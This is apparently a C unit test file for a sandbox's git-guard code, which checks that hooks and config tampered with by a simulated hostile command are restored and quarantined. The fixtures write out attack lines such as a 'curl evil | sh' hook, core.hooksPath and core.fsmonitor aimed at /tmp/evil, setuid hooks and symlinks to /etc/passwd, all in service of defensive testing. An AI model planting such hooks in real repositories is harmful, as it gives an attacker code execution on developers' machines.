/*
 * tests/unit/test-gitsnap.c — the git guards no mount holds
 * (gitguard/snap.c): real repositories (git init) in a temp dir, a policy
 * finalized and scanned as kinbox does it, a snapshot, then what a hostile
 * command could do to them, done from this process; after
 * kb_gitguard_restore every guarded file and hook is back (bytes, mode),
 * what the command planted is moved aside (kept), each change is one
 * SECURITY line, and nothing a planted symlink points at is touched. The
 * controls: ordinary git writes (git commit) are left alone, a run with no
 * change reports nothing. Also the snapshot's cost on a real repository.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "../../gitguard/gitguard.h"
#include "../../lib/fsat.h"
#include "tap.h"

static char base[PATH_MAX];
static char cmd_true[] = "true";
static char *cmd_argv[] = {cmd_true, NULL};

/* --- the tree ------------------------------------------------------------ */

static char *
at(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static char *
at(const char *fmt, ...)
{
	char rel[PATH_MAX];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(rel, sizeof(rel), fmt, ap);
	va_end(ap);
	return xasprintf("%s/%s", base, rel);
}

/* base/rel in a ring of buffers, for a path used once in an expression */
static const char *
tat(const char *rel)
{
	static char ring[4][2 * PATH_MAX];
	static unsigned i;
	char *b = ring[i++ % 4];

	snprintf(b, 2 * PATH_MAX, "%s/%s", base, rel);
	return b;
}

static int
sh(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

/* a shell command run in base */
static int
sh(const char *fmt, ...)
{
	char cmd[8192];
	_cleanup_free_ char *full = NULL;
	va_list ap;
	int rc;

	va_start(ap, fmt);
	vsnprintf(cmd, sizeof(cmd), fmt, ap);
	va_end(ap);
	full = xasprintf("cd '%s' && { %s; } >/dev/null 2>&1", base, cmd);
	rc = system(full);
	if (rc != 0)
		printf("# command failed (%d): %s\n", rc, cmd);
	return rc;
}

static void
put(const char *path, const char *text, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW, mode);

	if (fd == -1 || write(fd, text, strlen(text)) != (ssize_t)strlen(text))
		printf("# write %s: %s\n", path, strerror(errno));
	if (fd != -1)
		close(fd);
	chmod(path, mode);
}

/* a regular file's bytes (never through a symlink, never a FIFO) */
static char *
slurp(const char *path)
{
	struct stat st;

	if (lstat(path, &st) == -1 || !S_ISREG(st.st_mode))
		return NULL;
	return kb_read_small_file(path, 4u << 20);
}

static mode_t
lmode(const char *path)
{
	struct stat st;

	return lstat(path, &st) == 0 ? st.st_mode : 0;
}

static ino_t
lino(const char *path)
{
	struct stat st;

	return lstat(path, &st) == 0 ? st.st_ino : 0;
}

static uint64_t
fnv(uint64_t h, const void *p, size_t n)
{
	const unsigned char *c = p;

	for (size_t i = 0; i < n; i++)
		h = (h ^ c[i]) * 1099511628211ull;
	return h;
}

/* A signature of a tree: names, types, modes, bytes, symlink targets (and
 * mtimes and inodes when `times`), never following a symlink. */
static uint64_t
tree_sig(const char *path, bool times)
{
	struct stat st;
	uint64_t h = 14695981039346656037ull;

	if (lstat(path, &st) == -1)
		return 0;
	h = fnv(h, &st.st_mode, sizeof(st.st_mode));
	if (times) {
		h = fnv(h, &st.st_mtim, sizeof(st.st_mtim));
		h = fnv(h, &st.st_ino, sizeof(st.st_ino));
	}
	if (S_ISREG(st.st_mode)) {
		_cleanup_free_ char *s = slurp(path);

		if (s != NULL)
			h = fnv(h, s, strlen(s));
	} else if (S_ISLNK(st.st_mode)) {
		char buf[PATH_MAX];
		ssize_t n = readlink(path, buf, sizeof(buf));

		if (n > 0)
			h = fnv(h, buf, (size_t)n);
	} else if (S_ISDIR(st.st_mode)) {
		struct dirent **names = NULL;
		int n = scandir(path, &names, NULL, alphasort);

		for (int i = 0; i < n; i++) {
			const char *nm = names[i]->d_name;

			if (strcmp(nm, ".") != 0 && strcmp(nm, "..") != 0) {
				_cleanup_free_ char *c =
				    xasprintf("%s/%s", path, nm);
				uint64_t k = tree_sig(c, times);

				h = fnv(h, nm, strlen(nm));
				h = fnv(h, &k, sizeof(k));
			}
			free(names[i]);
		}
		free(names);
	}
	return h;
}

/* the first entry of dir named `name`.kinbox-quarantine.*; NULL if none */
static char *
evidence(const char *dir, const char *name)
{
	_cleanup_free_ char *prefix = xasprintf("%s.kinbox-quarantine.", name);
	DIR *d = opendir(dir);
	struct dirent *de;
	char *found = NULL;

	if (d == NULL)
		return NULL;
	while (found == NULL && (de = readdir(d)) != NULL)
		if (strncmp(de->d_name, prefix, strlen(prefix)) == 0)
			found = xasprintf("%s/%s", dir, de->d_name);
	closedir(d);
	return found;
}

/* --- the policy and the report ------------------------------------------- */

static struct kb_strv lines;

static void
collect(const char *line, bool security)
{
	printf("#   %s%s\n", security ? "SECURITY: " : "", line);
	if (security)
		kb_strv_push(&lines, line);
}

static void
reset_lines(void)
{
	kb_strv_free(&lines);
	memset(&lines, 0, sizeof(lines));
}

/* lines holding every one of the NULL-terminated substrings */
static int
nlines(const char *s1, ...)
{
	int n = 0;

	for (size_t i = 0; i < lines.n; i++) {
		va_list ap;
		const char *s = s1;
		bool all = true;

		va_start(ap, s1);
		for (; s != NULL; s = va_arg(ap, const char *))
			if (strstr(lines.v[i], s) == NULL)
				all = false;
		va_end(ap);
		n += all;
	}
	return n;
}

static int
policy_for(const char *ws_rel, struct kb_policy *p)
{
	_cleanup_free_ char *ws = at("%s", ws_rel);
	struct kb_err e;
	int rc;

	kb_policy_init(p);
	p->home = at("home");
	p->argv = cmd_argv;
	if (chdir(ws) == -1)
		return -1;
	rc = kb_policy_finalize(p, &e);
	if (rc == 0)
		rc = kb_gitguard_scan_roots(p, &e);
	if (rc != 0)
		printf("# %s\n", e.msg);
	if (chdir(base) == -1)
		return -1;
	return rc;
}

static struct kb_gitsnap *
snapshot(const struct kb_policy *p)
{
	struct kb_gitsnap *s = NULL;
	struct kb_err e;

	if (kb_gitguard_snapshot(p, &s, &e) == -1)
		printf("# snapshot: %s\n", e.msg);
	return s;
}

static void
git_init(const char *rel)
{
	sh("git -c init.defaultBranch=main init -q '%s'", rel);
}

/* --- the cases ----------------------------------------------------------- */

/* no change, and git's own writes: nothing to report */
static void
test_controls(void)
{
	struct kb_policy p;
	struct kb_gitsnap *s;
	_cleanup_free_ char *head = NULL;
	_cleanup_free_ char *headf = at("ctl/.git/refs/heads/main");
	uint64_t before;

	git_init("ctl");
	before = tree_sig(tat("ctl/.git/hooks"), true);
	ok(policy_for("ctl", &p) == 0, "control: policy finalized and scanned");
	s = snapshot(&p);
	ok(s != NULL, "control: snapshot of a fresh repository");
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 0,
	    "control: a run with no change reports nothing");
	assert_cmpint(lines.n, 0, "control: and prints no line");
	kb_gitsnap_free(s);

	s = snapshot(&p);
	/* what git writes when the command commits: objects, index, refs,
	 * logs, COMMIT_EDITMSG; none of it guarded */
	ok(sh("cd ctl && echo a > a && git add a && git commit -qm one && "
	      "git branch side && git tag v1 && git gc -q") == 0,
	    "control: git add, commit, branch, tag, gc run");
	head = slurp(headf);
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 0,
	    "control: git commit in the run is no finding");
	{
		_cleanup_free_ char *after = slurp(headf);
		_cleanup_free_ char *packed = at("ctl/.git/packed-refs");

		ok(head != NULL || access(packed, F_OK) == 0,
		    "control: the commit's ref is there");
		ok(head == NULL || (after != NULL && strcmp(head, after) == 0),
		    "control: refs are left alone");
	}
	ok(sh("cd ctl && git log --oneline | grep -q one && git cat-file -e "
	      "v1") == 0,
	    "control: the commit and the tag are left alone");
	ok(tree_sig(tat("ctl/.git/hooks"), true) == before,
	    "control: the hooks are untouched (names, bytes, mtimes, inodes)");
	assert_cmpint(kb_gitguard_audit_after(&p, s, collect), 0,
	    "control: the audit after the restore finds nothing either");
	kb_gitsnap_free(s);
	kb_policy_free(&p);
}

/* the hostile command in one repository: config, hooks */
static void
test_hostile(void)
{
	struct kb_policy p;
	struct kb_gitsnap *s;
	_cleanup_free_ char *cfg = at("hr/.git/config");
	_cleanup_free_ char *hooks = at("hr/.git/hooks");
	_cleanup_free_ char *outside = at("outside/passwd");
	_cleanup_free_ char *config0 = NULL;
	_cleanup_free_ char *pcs0 = NULL;
	_cleanup_free_ char *prb0 = NULL;
	_cleanup_free_ char *pup0 = NULL;
	_cleanup_free_ char *upd0 = NULL;
	_cleanup_free_ char *q = NULL;
	struct stat pw0, pw1;
	uint64_t hooks0, outside0;
	ino_t push_ino;
	int n;

	git_init("hr");
	sh("mkdir -p outside && echo 'root:x:0:0::/root:/bin/sh' > "
	   "outside/passwd");
	config0 = slurp(cfg);
	{
		_cleanup_free_ char *a = at("hr/.git/hooks/pre-commit.sample");
		_cleanup_free_ char *b = at("hr/.git/hooks/pre-rebase.sample");
		_cleanup_free_ char *c = at("hr/.git/hooks/post-update.sample");
		_cleanup_free_ char *d = at("hr/.git/hooks/update.sample");

		pcs0 = slurp(a);
		prb0 = slurp(b);
		pup0 = slurp(c);
		upd0 = slurp(d);
	}
	hooks0 = tree_sig(hooks, false);
	outside0 = tree_sig(tat("outside"), true);
	stat("/etc/passwd", &pw0);
	push_ino = lino(tat("hr/.git/hooks/pre-push.sample"));
	ok(config0 != NULL && pcs0 != NULL && prb0 != NULL && pup0 != NULL &&
	       upd0 != NULL,
	    "hostile: a repository as git init makes it");
	ok(policy_for("hr", &p) == 0, "hostile: policy finalized and scanned");
	s = snapshot(&p);
	ok(s != NULL, "hostile: snapshot");

	/* the command */
	ok(sh("cd hr && git config core.hooksPath /tmp/evil && printf "
	      "'[core]\\n\\tfsmonitor = /tmp/evil/fsm\\n' >> .git/config") ==
	       0,
	    "hostile: core.hooksPath (git config: a new inode) and "
	    "core.fsmonitor (appended in place) written");
	{
		_cleanup_free_ char *a = at("hr/.git/hooks/pre-commit.sample");
		_cleanup_free_ char *b = at("hr/.git/hooks/pre-commit");

		put(a, "#!/bin/sh\ncurl evil | sh\n", 0755);
		put(b, "#!/bin/sh\necho pwned\n", 0755);
	}
	ok(chmod(tat("hr/.git/hooks/pre-push.sample"), 06777) == 0,
	    "hostile: a hook made setuid and world-writable");
	ok(sh("cd hr/.git/hooks && rm pre-rebase.sample && ln -s '%s' "
	      "pre-rebase.sample && rm update.sample && ln -s /etc/passwd "
	      "update.sample",
	       outside) == 0,
	    "hostile: two hooks made symlinks (to a file outside, to "
	    "/etc/passwd)");
	ok(sh("cd hr/.git/hooks && rm post-update.sample && mkfifo "
	      "post-update.sample && mkfifo post-checkout") == 0,
	    "hostile: a hook made a FIFO, a FIFO planted as post-checkout");
	ok(sh("mkdir hr/.git/hooks/evil.d && echo x > hr/.git/hooks/evil.d/x") ==
	       0,
	    "hostile: a directory planted in hooks");
	ok(sh("cd hr/.git/hooks && cp pre-applypatch.sample ../../../outside/"
	      "same && chmod 644 ../../../outside/same && rm "
	      "pre-applypatch.sample && ln ../../../outside/same "
	      "pre-applypatch.sample") == 0,
	    "hostile: a hook replaced by a hard link to a file outside with "
	    "its bytes, another mode");
	ok(sh("cd hr/.git/hooks && cp commit-msg.sample c && rm "
	      "commit-msg.sample && mv c commit-msg.sample && chmod 4755 "
	      "commit-msg.sample") == 0,
	    "hostile: a hook replaced by a setuid copy");
	outside0 = tree_sig(tat("outside"), true);

	reset_lines();
	n = kb_gitguard_restore(&p, s, collect);
	assert_cmpint(n, 11, "hostile: eleven findings");
	assert_cmpint(lines.n, 11, "hostile: one SECURITY line each");
	{
		_cleanup_free_ char *now = slurp(cfg);

		assert_cmpstr(now, config0, "hostile: .git/config restored");
	}
	ok((lmode(cfg) & 07777) == 0644, "hostile: with its mode");
	q = evidence(tat("hr/.git"), "config");
	{
		_cleanup_free_ char *ev = q ? slurp(q) : NULL;

		ok(ev != NULL && strstr(ev, "fsmonitor") != NULL &&
		       strstr(ev, "hooksPath") != NULL,
		    "hostile: the command's config is kept aside");
	}
	assert_cmpint(nlines(cfg, "was changed", "moved aside to", NULL), 1,
	    "hostile: the config's line names it and the evidence");
	{
		_cleanup_free_ char *a = at("hr/.git/hooks/pre-commit.sample");
		_cleanup_free_ char *now = slurp(a);

		assert_cmpstr(now, pcs0, "hostile: pre-commit.sample restored");
		ok((lmode(a) & 07777) == 0755, "hostile: with its mode");
		assert_cmpint(nlines(a, "was changed", NULL), 1,
		    "hostile: reported");
	}
	{
		_cleanup_free_ char *b = at("hr/.git/hooks/pre-commit");
		_cleanup_free_ char *ev = evidence(hooks, "pre-commit");
		_cleanup_free_ char *evs = ev ? slurp(ev) : NULL;

		ok(lmode(b) == 0, "hostile: the planted pre-commit is gone");
		ok(evs != NULL && strstr(evs, "pwned") != NULL &&
		       (lmode(ev) & 0111) != 0,
		    "hostile: kept aside as it was");
		assert_cmpint(
		    nlines(b, "was created during the run", "moved aside", NULL),
		    1, "hostile: reported as removed (moved aside)");
	}
	{
		_cleanup_free_ char *a = at("hr/.git/hooks/pre-push.sample");

		ok((lmode(a) & 07777) == 0755 && lino(a) == push_ino,
		    "hostile: the hook's mode restored on the same file");
		assert_cmpint(nlines(a, "mode", "6777", "0755", NULL), 1,
		    "hostile: reported with both modes");
	}
	{
		_cleanup_free_ char *a = at("hr/.git/hooks/pre-rebase.sample");
		_cleanup_free_ char *b = at("hr/.git/hooks/update.sample");
		_cleanup_free_ char *now = slurp(a);
		_cleanup_free_ char *now2 = slurp(b);
		_cleanup_free_ char *ev = evidence(hooks, "pre-rebase.sample");
		_cleanup_free_ char *ev2 = evidence(hooks, "update.sample");

		assert_cmpstr(now, prb0, "hostile: a hook made a symlink is "
					 "recreated");
		assert_cmpstr(now2, upd0, "hostile: the other too");
		ok(ev != NULL && S_ISLNK(lmode(ev)) && ev2 != NULL &&
		       S_ISLNK(lmode(ev2)),
		    "hostile: the symlinks are kept aside");
		assert_cmpint(nlines(a, "replaced by a symlink", outside, NULL),
		    1, "hostile: reported with the symlink's target");
		assert_cmpint(
		    nlines(b, "replaced by a symlink", "/etc/passwd", NULL), 1,
		    "hostile: reported with the symlink's target");
	}
	ok(tree_sig(tat("outside"), true) == outside0,
	    "hostile: the files a symlink and a hard link pointed at are "
	    "untouched (bytes, mode, mtime)");
	{
		_cleanup_free_ char *a = at("hr/.git/hooks/pre-applypatch.sample");
		_cleanup_free_ char *b = at("hr/.git/hooks/commit-msg.sample");
		_cleanup_free_ char *o = at("outside/same");

		ok((lmode(a) & 07777) == 0755 && lino(a) != lino(o) &&
		       (lmode(o) & 07777) == 0644,
		    "hostile: the hard-linked hook is recreated, the file "
		    "outside keeps its mode");
		ok((lmode(b) & 07777) == 0755,
		    "hostile: the setuid copy is replaced by the original mode");
		assert_cmpint(nlines(b, "another file (mode 4755", NULL), 1,
		    "hostile: reported");
	}
	ok(stat("/etc/passwd", &pw1) == 0 && pw1.st_ino == pw0.st_ino &&
	       pw1.st_size == pw0.st_size &&
	       pw1.st_mtim.tv_sec == pw0.st_mtim.tv_sec &&
	       pw1.st_mtim.tv_nsec == pw0.st_mtim.tv_nsec &&
	       pw1.st_mode == pw0.st_mode,
	    "hostile: /etc/passwd is untouched");
	{
		_cleanup_free_ char *a = at("hr/.git/hooks/post-update.sample");
		_cleanup_free_ char *b = at("hr/.git/hooks/post-checkout");
		_cleanup_free_ char *now = slurp(a);
		_cleanup_free_ char *ev = evidence(hooks, "post-update.sample");
		_cleanup_free_ char *ev2 = evidence(hooks, "post-checkout");

		assert_cmpstr(now, pup0, "hostile: a hook made a FIFO is "
					 "recreated (the FIFO never opened)");
		ok(ev != NULL && S_ISFIFO(lmode(ev)),
		    "hostile: the FIFO is kept aside");
		ok(lmode(b) == 0 && ev2 != NULL && S_ISFIFO(lmode(ev2)),
		    "hostile: a planted FIFO hook is moved aside");
		assert_cmpint(nlines(a, "replaced by a FIFO", NULL), 1,
		    "hostile: reported");
		assert_cmpint(nlines(b, "a FIFO", "moved aside", NULL), 1,
		    "hostile: reported");
	}
	{
		_cleanup_free_ char *d = at("hr/.git/hooks/evil.d");
		_cleanup_free_ char *ev = evidence(hooks, "evil.d");
		_cleanup_free_ char *x = ev ? xasprintf("%s/x", ev) : NULL;

		ok(lmode(d) == 0 && x != NULL && S_ISREG(lmode(x)),
		    "hostile: a planted directory is moved aside, whole");
	}
	/* the hooks are what they were, but for the evidence kept */
	ok(sh("cd hr/.git/hooks && mkdir -p ../../../ev && mv "
	      "*.kinbox-quarantine.* ../../../ev/") == 0 &&
	       tree_sig(hooks, false) == hooks0,
	    "hostile: the hooks dir is as before (names, types, modes, "
	    "bytes)");
	reset_lines();
	assert_cmpint(kb_gitguard_audit_after(&p, s, collect), 0,
	    "hostile: the audit after the restore reports nothing again");
	/* kb_gitguard_audit alone judges the config by its inode: the reason
	 * for kb_gitguard_audit_after */
	reset_lines();
	ok(kb_gitguard_audit(&p, collect) == 1 &&
	       nlines(cfg, "replaced", NULL) == 1,
	    "hostile: kb_gitguard_audit alone would report the restored "
	    "config again (git config made it a new inode)");
	kb_gitsnap_free(s);
	kb_policy_free(&p);
	/* the next run (a new scan) starts from this state, finds nothing */
	reset_lines();
	ok(policy_for("hr", &p) == 0 && (s = snapshot(&p)) != NULL &&
	       kb_gitguard_restore(&p, s, collect) == 0 &&
	       kb_gitguard_audit_after(&p, s, collect) == 0,
	    "hostile: the next run, no change: nothing");
	kb_gitsnap_free(s);
	kb_policy_free(&p);
}

/* hooks and config absent before the run */
static void
test_absent(void)
{
	struct kb_policy p;
	struct kb_gitsnap *s;
	_cleanup_free_ char *hooks = at("ab/.git/hooks");
	_cleanup_free_ char *cfg = at("ab/.git/config");
	_cleanup_free_ char *gd = at("ab/.git");

	git_init("ab");
	sh("rm -rf ab/.git/hooks ab/.git/config");
	ok(policy_for("ab", &p) == 0, "absent: policy finalized and scanned");
	s = snapshot(&p);
	ok(s != NULL, "absent: snapshot of a repository without hooks and "
		      "config");
	sh("mkdir ab/.git/hooks && printf '#!/bin/sh\\necho pwned\\n' > "
	   "ab/.git/hooks/pre-commit && chmod 755 ab/.git/hooks/pre-commit && "
	   "printf '[core]\\n\\thooksPath = /tmp/evil\\n' > ab/.git/config");
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 2,
	    "absent: a planted hooks dir and config are two findings");
	ok(lmode(hooks) == 0 && lmode(cfg) == 0,
	    "absent: both are absent again");
	{
		_cleanup_free_ char *ev = evidence(gd, "hooks");
		_cleanup_free_ char *evh =
		    ev ? xasprintf("%s/pre-commit", ev) : NULL;
		_cleanup_free_ char *evc = evidence(gd, "config");
		_cleanup_free_ char *text = evc ? slurp(evc) : NULL;

		ok(evh != NULL && S_ISREG(lmode(evh)),
		    "absent: the planted hooks dir is kept aside, whole");
		ok(text != NULL && strstr(text, "hooksPath") != NULL,
		    "absent: the planted config is kept aside");
	}
	assert_cmpint(nlines(hooks, "created during the run", "moved aside",
			  NULL),
	    1, "absent: the hooks line");
	assert_cmpint(
	    nlines(cfg, "created during the run", "moved aside", NULL), 1,
	    "absent: the config line");
	/* an empty hooks dir holds nothing to keep: removed */
	sh("mkdir ab/.git/hooks");
	reset_lines();
	ok(kb_gitguard_restore(&p, s, collect) == 1 && lmode(hooks) == 0 &&
	       nlines(hooks, "empty directory", "removed", NULL) == 1,
	    "absent: an empty hooks dir is removed, and reported");
	/* a symlink where hooks was absent: moved aside, its target kept */
	sh("mkdir -p outside-abs && echo keep > outside-abs/pre-commit && "
	   "ln -s '%s/outside-abs' ab/.git/hooks",
	    base);
	{
		uint64_t o0 = tree_sig(tat("outside-abs"), true);

		reset_lines();
		ok(kb_gitguard_restore(&p, s, collect) == 1 &&
		       lmode(hooks) == 0 &&
		       tree_sig(tat("outside-abs"), true) == o0,
		    "absent: a planted hooks symlink is moved aside, its "
		    "target untouched");
	}
	kb_gitsnap_free(s);
	kb_policy_free(&p);
}

/* .git/hooks replaced whole: by a symlink to a dir outside, by a new dir */
static void
test_hooks_replaced(void)
{
	struct kb_policy p;
	struct kb_gitsnap *s;
	_cleanup_free_ char *hooks = at("hs/.git/hooks");
	_cleanup_free_ char *gd = at("hs/.git");
	uint64_t hooks0, hooks0t, out0;
	ino_t ino0;

	git_init("hs");
	sh("mkdir -p outside-hooks && printf '#!/bin/sh\\necho pwned\\n' > "
	   "outside-hooks/pre-commit && chmod 755 outside-hooks/pre-commit");
	hooks0 = tree_sig(hooks, false);
	hooks0t = tree_sig(hooks, true);
	out0 = tree_sig(tat("outside-hooks"), true);
	ino0 = lino(hooks);
	ok(policy_for("hs", &p) == 0, "hooks: policy finalized and scanned");
	s = snapshot(&p);
	ok(s != NULL, "hooks: snapshot");

	/* gone, and a symlink to a directory outside in its place */
	sh("rm -rf hs/.git/hooks && ln -s '%s/outside-hooks' hs/.git/hooks",
	    base);
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 1,
	    "hooks: replaced by a symlink: one finding");
	ok(S_ISDIR(lmode(hooks)) && tree_sig(hooks, false) == hooks0,
	    "hooks: recreated from the snapshot (names, modes, bytes)");
	{
		_cleanup_free_ char *ev = evidence(gd, "hooks");

		ok(ev != NULL && S_ISLNK(lmode(ev)),
		    "hooks: the symlink is kept aside");
	}
	ok(tree_sig(tat("outside-hooks"), true) == out0,
	    "hooks: the directory it pointed at is untouched");
	assert_cmpint(nlines(hooks, "replaced by a symlink", "outside-hooks",
			  "moved aside", NULL),
	    1, "hooks: reported with the symlink's target");
	kb_gitsnap_free(s);
	kb_policy_free(&p);

	/* mv hooks h2; mkdir hooks; a hook in it: the original moved back */
	sh("rm -rf hs");
	git_init("hs");
	ino0 = lino(hooks);
	hooks0t = tree_sig(hooks, true);
	ok(policy_for("hs", &p) == 0 && (s = snapshot(&p)) != NULL,
	    "hooks: a second repository, snapshot");
	sh("mv hs/.git/hooks hs/.git/h2 && mkdir hs/.git/hooks && printf "
	   "'#!/bin/sh\\necho pwned\\n' > hs/.git/hooks/pre-commit && chmod "
	   "755 hs/.git/hooks/pre-commit");
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 1,
	    "hooks: swapped for a new dir: one finding");
	ok(lino(hooks) == ino0 && tree_sig(hooks, true) == hooks0t,
	    "hooks: the original moved back, as it was (mtimes too)");
	{
		_cleanup_free_ char *h2 = at("hs/.git/h2");
		_cleanup_free_ char *ev = evidence(gd, "hooks");
		_cleanup_free_ char *evh =
		    ev ? xasprintf("%s/pre-commit", ev) : NULL;

		ok(lmode(h2) == 0 && evh != NULL && S_ISREG(lmode(evh)),
		    "hooks: the new dir is kept aside, h2 is gone");
	}
	assert_cmpint(nlines(hooks, "was moved to", "h2", "moved back", NULL),
	    1, "hooks: reported");
	kb_gitsnap_free(s);
	kb_policy_free(&p);
}

/* .git renamed away and a new one made; .git moved out of its directory */
static void
test_gitdir(void)
{
	struct kb_policy p;
	struct kb_gitsnap *s;
	_cleanup_free_ char *gd = at("gd/.git");
	_cleanup_free_ char *ws = at("gd");
	ino_t ino0;
	uint64_t sig0;

	git_init("gd");
	sh("cd gd && echo a > a && git add a && git commit -qm one");
	ino0 = lino(gd);
	sig0 = tree_sig(gd, true);
	ok(policy_for("gd", &p) == 0 && (s = snapshot(&p)) != NULL,
	    "gitdir: policy, snapshot");
	sh("cd gd && mv .git .git-old && git init -q . && printf "
	   "'#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod 755 "
	   ".git/hooks/pre-commit");
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 1,
	    "gitdir: mv .git .git-old; git init: one finding");
	ok(lino(gd) == ino0 && tree_sig(gd, true) == sig0,
	    "gitdir: the original .git is back, untouched");
	{
		_cleanup_free_ char *old = at("gd/.git-old");
		_cleanup_free_ char *ev = evidence(ws, ".git");
		_cleanup_free_ char *evh =
		    ev ? xasprintf("%s/hooks/pre-commit", ev) : NULL;

		ok(lmode(old) == 0 && evh != NULL && S_ISREG(lmode(evh)),
		    "gitdir: the new .git is kept aside");
	}
	assert_cmpint(nlines(gd, ".git-old", "moved back", "moved aside", NULL),
	    1, "gitdir: reported");
	ok(sh("cd gd && git log --oneline | grep -q one") == 0,
	    "gitdir: the repository works");
	/* the .git kept aside is a bare repository where it lies (git run
	 * in it uses it): the audit after disarms its hook, once */
	assert_cmpint(kb_gitguard_audit_after(&p, s, collect), 1,
	    "gitdir: the audit after disarms the hook of the .git kept aside");
	{
		_cleanup_free_ char *ev = evidence(ws, ".git");
		_cleanup_free_ char *evh =
		    ev ? xasprintf("%s/hooks/pre-commit", ev) : NULL;

		ok(evh != NULL && S_ISREG(lmode(evh)) &&
			(lmode(evh) & 0111) == 0,
		    "gitdir: the hook kept aside is there, not executable");
	}
	kb_gitsnap_free(s);

	/* moved out of its directory, a new repository in its place: left
	 * alone and reported; the audit disarms the new one */
	s = snapshot(&p);
	sh("cd gd && rm -rf .git.kinbox-quarantine.* && mkdir stash && mv .git "
	   "stash/g && git init -q . && printf '#!/bin/sh\\necho pwned\\n' > "
	   ".git/hooks/pre-commit && chmod 755 .git/hooks/pre-commit && git "
	   "config core.fsmonitor /tmp/evil");
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 1,
	    "gitdir: moved out of its directory: one finding (none for what "
	    "lay below it)");
	assert_cmpint(nlines(gd, "original is not in its directory",
			  "left alone", NULL),
	    1, "gitdir: reported, with the advice");
	ok(S_ISDIR(lmode(gd)) && lino(gd) != ino0,
	    "gitdir: the new .git is left where it is");
	reset_lines();
	ok(kb_gitguard_audit_after(&p, s, collect) >= 2,
	    "gitdir: the audit after disarms it as a repository the command "
	    "made");
	{
		_cleanup_free_ char *h = at("gd/.git/hooks/pre-commit");
		_cleanup_free_ char *c = at("gd/.git/config");
		_cleanup_free_ char *text = slurp(c);

		ok((lmode(h) & 0111) == 0 && text != NULL &&
		       strstr(text, "fsmonitor") == NULL,
		    "gitdir: its hook is not executable, its config neutral");
	}
	kb_gitsnap_free(s);

	/* replaced by a symlink: left alone, nothing followed */
	sh("cd gd && rm -rf .git && mv stash/g .git");
	ok(lino(gd) == ino0, "gitdir: the original put back by hand");
	s = snapshot(&p);
	sh("mkdir -p outside-git && echo keep > outside-git/config && cd gd && "
	   "mkdir -p stash && mv .git stash/g && ln -s '%s/outside-git' .git",
	    base);
	{
		uint64_t o0 = tree_sig(tat("outside-git"), true);

		reset_lines();
		assert_cmpint(kb_gitguard_restore(&p, s, collect), 1,
		    "gitdir: replaced by a symlink: one finding");
		ok(S_ISLNK(lmode(gd)) && tree_sig(tat("outside-git"), true) == o0,
		    "gitdir: the symlink is left alone, its target untouched");
		assert_cmpint(nlines(gd, "a symlink", "left alone", NULL), 1,
		    "gitdir: reported");
		reset_lines();
		assert_cmpint(kb_gitguard_audit_after(&p, s, collect), 0,
		    "gitdir: the audit after adds no line for what lies "
		    "below the symlink");
		ok(S_ISLNK(lmode(gd)) && tree_sig(tat("outside-git"), true) == o0,
		    "gitdir: and follows nothing");
	}
	kb_gitsnap_free(s);
	sh("cd gd && rm .git && mv stash/g .git");
	/* .git made unsearchable: its mode is put back first */
	s = snapshot(&p);
	{
		_cleanup_free_ char *h = at("gd/.git/hooks/pre-commit");

		put(h, "#!/bin/sh\necho pwned\n", 0755);
	}
	ok(s != NULL && chmod(gd, 0) == 0,
	    "gitdir: a hook planted, then .git made mode 0 (unsearchable "
	    "but for root)");
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 2,
	    "gitdir: the mode and the hook: two findings");
	ok((lmode(gd) & 07777) == 0755 && lino(gd) == ino0,
	    "gitdir: the mode restored on the same git dir");
	assert_cmpint(nlines(gd, "mode", "0000", "0755", NULL), 1,
	    "gitdir: reported");
	kb_gitsnap_free(s);
	kb_policy_free(&p);
}

/* a child repository whose directory is replaced by a symlink */
static void
test_child_symlink(void)
{
	struct kb_policy p;
	struct kb_gitsnap *s;
	uint64_t o0;

	sh("mkdir -p cs");
	git_init("cs/child");
	ok(policy_for("cs", &p) == 0 && (s = snapshot(&p)) != NULL,
	    "child: policy, snapshot");
	sh("mkdir -p outside-child/.git/hooks && echo x > "
	   "outside-child/.git/config && cd cs && mv child child-moved && ln "
	   "-s '%s/outside-child' child",
	    base);
	o0 = tree_sig(tat("outside-child"), true);
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 1,
	    "child: one finding for the git dir and all below it");
	assert_cmpint(nlines("replaced by a symlink", "nothing below", NULL), 1,
	    "child: reported");
	ok(tree_sig(tat("outside-child"), true) == o0,
	    "child: the symlink's target is untouched");
	kb_gitsnap_free(s);
	kb_policy_free(&p);
}

/* core.hooksPath in the worktree (husky): a guarded dir outside .git */
static void
test_hookspath(void)
{
	struct kb_policy p;
	struct kb_gitsnap *s;
	_cleanup_free_ char *hp = at("hp/.husky");
	uint64_t sig0;

	git_init("hp");
	sh("cd hp && mkdir -p .husky/_ && printf '#!/bin/sh\\n. "
	   "\"$(dirname \"$0\")/_/h.sh\"\\n' > .husky/pre-push && chmod 755 "
	   ".husky/pre-push && echo 'true' > .husky/_/h.sh && git config "
	   "core.hooksPath .husky");
	sig0 = tree_sig(hp, false);
	ok(policy_for("hp", &p) == 0 && (s = snapshot(&p)) != NULL,
	    "hookspath: policy, snapshot");
	sh("cd hp/.husky && printf '#!/bin/sh\\necho pwned\\n' > pre-commit "
	   "&& chmod 755 pre-commit && echo 'curl evil|sh' > _/h.sh");
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 2,
	    "hookspath: a planted hook and a changed helper below: two "
	    "findings");
	ok(sh("cd hp/.husky && rm -f *.kinbox-quarantine.* "
